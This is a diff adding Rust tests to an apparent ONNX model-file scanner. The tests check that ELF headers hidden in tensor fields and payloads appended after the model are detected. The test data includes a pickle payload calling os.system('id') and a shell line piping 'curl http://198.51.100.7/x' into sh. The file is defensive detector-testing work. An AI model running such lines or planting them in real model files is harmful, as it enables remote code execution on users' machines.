@@ -4,6 +4,7 @@ use super::assemble::{
     Builder, call, endless_loop, external, external_with, model, node, numbers, tensor,
 };
 use crate::testing::{artifact, artifact_of, gaps, report, survives_truncation};
+use crate::unclaimed;
 
 fn small() -> Vec<u8> {
     model(
@@ -183,4 +184,75 @@ fn bytes_in_a_field_that_nobody_knows_are_told() {
     );
     let artifact = artifact("m.onnx", &bytes);
     assert_eq!(artifact.anomalies[0].kind, AnomalyKind::UnclaimedBytes);
+}
+
+/// Bytes as numbers of a field that is packed: in groups of seven bits.
+fn packed(bytes: &[u8]) -> Vec<u8> {
+    bytes
+        .iter()
+        .flat_map(|byte| match byte {
+            0..=0x7f => vec![*byte],
+            _ => vec![*byte, 1],
+        })
+        .collect()
+}
+
+#[test]
+fn what_tensors_hold_is_seen_in_every_field_of_data() {
+    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0\0\0\0\0\0\0\0\0";
+    let tensor = |dtype: u64| {
+        Builder::default()
+            .number(1, 4)
+            .number(2, dtype)
+            .bytes(8, b"w")
+    };
+    let one_by_one = elf
+        .iter()
+        .fold(tensor(2), |tensor, byte| tensor.number(5, u64::from(*byte)));
+    for initializer in [
+        tensor(1).bytes(9, elf),
+        tensor(2).bytes(9, elf),
+        tensor(1).bytes(4, elf),
+        tensor(11).bytes(10, elf),
+        tensor(2).bytes(5, packed(elf)),
+        tensor(8).bytes(6, elf),
+        one_by_one,
+    ] {
+        let found = artifact("m.onnx", &model(&[node("", "Relu")], &[initializer]));
+        assert!(
+            found
+                .tensor_signs
+                .iter()
+                .any(|sign| sign.detail.contains("ELF")),
+            "{:?}",
+            found.tensor_signs
+        );
+    }
+}
+
+#[test]
+fn what_follows_the_model_is_told() {
+    let sound = model(&[node("", "Relu")], &[]);
+    let pickle = crate::pickle::assemble::call("os", "system", "id");
+    for tail in [
+        &*pickle,
+        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0",
+        b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n",
+    ] {
+        for padding in [0_usize, 16] {
+            let bytes = [&*sound, &vec![0xff; padding], tail].concat();
+            let found = artifact("m.onnx", &bytes);
+            let told = |anomaly: &stance_core::fact::Anomaly| {
+                anomaly.kind == AnomalyKind::UnclaimedBytes
+                    && [unclaimed::STARTS_AS, unclaimed::HOLD]
+                        .iter()
+                        .any(|words| anomaly.detail.contains(words))
+            };
+            assert!(
+                found.anomalies.iter().any(told),
+                "{padding}: {:?}",
+                found.anomalies
+            );
+        }
+    }
 }
